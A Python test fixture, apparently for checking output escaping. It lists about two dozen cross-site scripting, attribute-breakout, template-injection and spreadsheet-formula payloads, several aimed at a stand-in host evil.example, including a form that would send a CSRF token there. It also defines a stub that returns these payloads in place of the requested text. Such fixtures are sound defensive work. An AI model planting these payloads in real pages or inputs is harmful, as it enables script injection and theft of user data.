"""Words that try to be more than words. Each would set window.__xss or open a dialog if it ran."""

from __future__ import annotations

HOSTILE = (
    "<script>window.__xss=1</script>",
    "<svg/onload=window.__xss=1>",
    "<img src=x onerror=window.__xss=1>",
    "javascript:window.__xss=1",
    "data:text/html,<script>window.__xss=1</script>",
    '"><script>window.__xss=1</script>',
    "'><img src=x onerror=alert(1)>",
    '" autofocus onfocus=window.__xss=1 x="',
    "' onmouseover='window.__xss=1",
    "{{7*7}}{% raw %}{{ config }}${7*7}#{7*7}",
    "</title><script>window.__xss=1</script>",
    "</textarea><script>window.__xss=1</script>",
    "</option></select><img src=x onerror=window.__xss=1>",
    "<!--><script>window.__xss=1</script>-->",
    '<math><mi//xlink:href="data:x,<script>window.__xss=1</script>">',
    '<noscript><p title="</noscript><img src=x onerror=window.__xss=1>">',
    "<style>@import'//evil.example';*{display:none}</style>",
    "<iframe srcdoc='<script>parent.__xss=1</script>'></iframe>",
    "<base href=//evil.example/><a href=x>",
    "<form action=//evil.example><input name=csrf_token>",
    "[click](javascript:window.__xss=1) ![x](//evil.example/x.png) <https://evil.example>",
    '=HYPERLINK("//evil.example")',
    "\u202e<script>\u2028window.__xss=1</script>\ufeff",
    "&lt;script&gt;window.__xss=1&lt;/script&gt;&#60;img src=x onerror=alert(1)&#62;",
    "<a hx-get=/ hx-trigger=load hx-on::load=window.__xss=1 data-hx-on:load='window.__xss=1'>",
    "%3Cscript%3Ewindow.__xss=1%3C/script%3E",
)


class Hostile:
    """Says something hostile instead of what it is asked to say: each of HOSTILE in turn, numbered."""

    def __init__(self) -> None:
        self.said = 0

    def __call__(self, _text: str) -> str:
        self.said += 1
        return f"{HOSTILE[self.said % len(HOSTILE)]} {self.said}"
